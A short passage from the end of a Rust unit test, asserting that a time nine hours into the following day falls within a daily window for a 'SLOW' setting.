        assert!(in_daily(day + DAY + 9 * HOUR, SLOW));
    }
}
